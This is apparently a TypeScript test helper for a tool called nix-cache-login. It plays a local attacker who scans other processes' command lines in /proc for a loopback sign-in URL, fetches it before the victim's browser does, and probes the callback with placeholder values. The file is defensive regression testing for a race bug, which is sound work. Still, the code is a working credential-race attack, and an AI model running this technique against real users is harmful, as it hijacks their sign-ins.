// Another local user racing for a sign-in URL (issue 21): it scans every process's command line in
// /proc (readable by every user) for a loopback sign-in URL of nix-cache-login, as a browser gets
// it on its argv, and fetches it before the browser does. Then it tries the callback path too. It
// writes what it saw to THIEF_RESULT, then creates THIEF_DONE (the victim's browser waits for it).
// THIEF_TIMEOUT_MS bounds the scan (default 60 s). THIEF_VICTIM_UID: only that user's processes
// are looked at (an attacker after one victim; other sign-ins on the machine are left alone).
// Run as the attacker's uid.

import { readdirSync, readFileSync, statSync } from "node:fs";
import { writeFile } from "node:fs/promises";

const SIGN_IN_URL = /^http:\/\/127\.0\.0\.1:(\d+)\/[A-Za-z0-9_-]{22}$/;
const limit = Number(process.env.THIEF_TIMEOUT_MS ?? 60_000);
const started = performance.now();
const victim = process.env.THIEF_VICTIM_UID === undefined ? undefined : Number(process.env.THIEF_VICTIM_UID);

function scan(): { url: string; port: string; pid: string } | undefined {
  for (const pid of readdirSync("/proc")) {
    if (!/^\d+$/.test(pid) || Number(pid) === process.pid) continue;
    let argv: string[];
    try {
      if (victim !== undefined && statSync(`/proc/${pid}`).uid !== victim) continue;
      argv = readFileSync(`/proc/${pid}/cmdline`, "utf8").split("\0");
    } catch {
      continue; // gone meanwhile
    }
    for (const a of argv) {
      const m = SIGN_IN_URL.exec(a);
      if (m?.[1] !== undefined) return { url: a, port: m[1], pid };
    }
  }
  return undefined;
}

async function main(): Promise<Record<string, unknown>> {
  let scans = 0;
  for (;;) {
    scans++;
    const found = scan();
    if (found !== undefined) {
      const start = await fetch(found.url, { redirect: "manual" });
      const startBody = await start.text();
      const callback = await fetch(
        `http://127.0.0.1:${found.port}/callback?code=stolen-code&state=guessed-state`,
        { redirect: "manual" },
      );
      const callbackBody = await callback.text();
      return {
        found: true,
        scans,
        uid: process.getuid?.(),
        foundInPid: Number(found.pid),
        start: {
          status: start.status,
          bodyBytes: startBody.length,
          location: start.headers.get("location") !== null,
        },
        callback: { status: callback.status, bodyBytes: callbackBody.length },
        ms: Math.round(performance.now() - started),
      };
    }
    if (performance.now() - started > limit) return { found: false, scans };
    await new Promise((r) => setTimeout(r, 2));
  }
}

const result = await main();
if (process.env.THIEF_RESULT !== undefined)
  await writeFile(process.env.THIEF_RESULT, `${JSON.stringify(result)}\n`);
if (process.env.THIEF_DONE !== undefined) await writeFile(process.env.THIEF_DONE, "done\n");
